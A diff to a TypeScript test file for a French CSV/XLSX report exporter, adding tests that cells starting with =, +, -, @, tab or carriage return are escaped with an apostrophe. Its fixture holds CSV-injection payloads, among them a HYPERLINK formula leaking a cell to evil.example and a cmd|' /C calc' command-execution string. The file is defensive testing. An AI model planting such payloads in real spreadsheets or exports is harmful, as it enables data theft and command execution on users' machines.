@@ -34,6 +34,28 @@ const RECEPTION: ReportTable = {
   ],
 };
 
+/** Names a coordinator or a partner typed, made to run in a spreadsheet (OWASP, CSV injection). */
+const HOSTILE: ReportTable = {
+  id: 'hostile',
+  title: '=HYPERLINK("http://evil.example/?"&A3;"Cliquez")',
+  sheetName: 'Orientations',
+  columns: [
+    { header: "@SUM(1+1)*cmd|' /C calc'!A0", kind: 'text' },
+    { header: 'Écart', kind: 'count' },
+    { header: 'Délai (jours)', kind: 'days' },
+  ],
+  rows: [
+    ['=1+1', -3, -12.5],
+    ['+33 5 59 00 00 00', 0, 4],
+    ['-2+3', 12, null],
+    ['@Mairie', -1240, -0.5],
+    ['\tTabulée', 1, 1],
+    ['\rRetour', 1, 1],
+    ['Mairie de Lagor, =1+1', 2, 2],
+    ['Trait-d’union au milieu - ok', 3, 3],
+  ],
+};
+
 /** Reads a Blob in jsdom, which lacks `Blob.arrayBuffer()`. */
 function arrayBufferOf(blob: Blob): Promise<ArrayBuffer> {
   return new Promise((resolve, reject) => {
@@ -72,11 +94,56 @@ describe('CSV for French Excel', () => {
     expect(lines.slice(0, 4)).toEqual([
       'Pilotage du 1er janvier 2025 au 31 décembre 2025',
       '',
-      'Dossiers au 31/12/2025, par statut',
+      // Quoted for its comma: a spreadsheet set to split on commas keeps it one cell.
+      '"Dossiers au 31/12/2025, par statut"',
       'Statut;Dossiers',
     ]);
     expect(lines).toContain('Accueil sous un mois');
     expect(lines[lines.indexOf('Accueil sous un mois') - 1]).toBe('');
+  });
+});
+
+describe('cells a spreadsheet would run', () => {
+  it('are written as text in the CSV, with an apostrophe first; numbers, negative ones too, stay numbers', () => {
+    const lines = tablesToCsv([HOSTILE], '-période').slice(1).split('\r\n');
+    expect(lines).toEqual([
+      "'-période",
+      '',
+      `"'=HYPERLINK(""http://evil.example/?""&A3;""Cliquez"")"`,
+      `'@SUM(1+1)*cmd|' /C calc'!A0;Écart;Délai (jours)`,
+      "'=1+1;-3;-12,5",
+      "'+33 5 59 00 00 00;0;4",
+      "'-2+3;12;",
+      "'@Mairie;-1240;-0,5",
+      `"'\tTabulée";1;1`,
+      `"'\rRetour";1;1`,
+      '"Mairie de Lagor, =1+1";2;2',
+      'Trait-d’union au milieu - ok;3;3',
+      '',
+    ]);
+  });
+
+  it('are written as text in the XLSX, with an apostrophe first; numbers, negative ones too, stay numbers', async () => {
+    const sheets = await readXlsxFile(await arrayBufferOf(await xlsxBlob([HOSTILE], '+2025')));
+    const data = sheets[0]?.data ?? [];
+    expect(data[0]?.[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A3;"Cliquez") — +2025`);
+    expect(data[1]).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0", 'Écart', 'Délai (jours)']);
+    expect(data.slice(2).map((row) => row[0])).toEqual([
+      "'=1+1",
+      "'+33 5 59 00 00 00",
+      "'-2+3",
+      "'@Mairie",
+      "'\tTabulée",
+      "'\rRetour",
+      'Mairie de Lagor, =1+1',
+      'Trait-d’union au milieu - ok',
+    ]);
+    expect(data.slice(2, 6).map((row) => row.slice(1))).toEqual([
+      [-3, -12.5],
+      [0, 4],
+      [12, '—'],
+      [-1240, -0.5],
+    ]);
   });
 });
 
